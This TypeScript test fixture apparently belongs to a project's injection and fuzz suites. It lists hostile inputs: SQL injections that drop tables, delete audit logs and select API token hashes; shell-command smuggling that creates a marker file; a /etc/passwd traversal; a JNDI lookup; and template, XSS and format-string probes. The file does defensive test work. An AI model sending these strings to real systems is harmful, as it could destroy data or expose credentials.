/** SQL, command, template and path injection strings used by the injection and fuzz suites. */
/** Created only if one of the command-injection strings were ever run by a shell. */
export const INJECTION_MARKER_FILE = '/tmp/heatfleet-security-pwned';
const PWNED = INJECTION_MARKER_FILE;
export const INJECTIONS = [
  "'; DROP TABLE readings; --",
  "' OR '1'='1",
  '" OR ""="',
  "Robert'); DROP TABLE users;--",
  "1; DELETE FROM audit_log WHERE 1=1; --",
  "x' UNION SELECT id, secret_hash FROM api_tokens --",
  "'); COPY (SELECT * FROM users) TO '/tmp/heatfleet-security-pwned'; --",
  `$(touch ${PWNED})`,
  `\`touch ${PWNED}\``,
  `; touch ${PWNED} #`,
  `| touch ${PWNED}`,
  '../../../../etc/passwd',
  '${jndi:ldap://x/a}',
  '{{7*7}}<script>alert(1)</script>',
  '%s%s%s%n',
  'nul\u0000byte',
  '中文\'; DROP TABLE sites; --',
] as const;
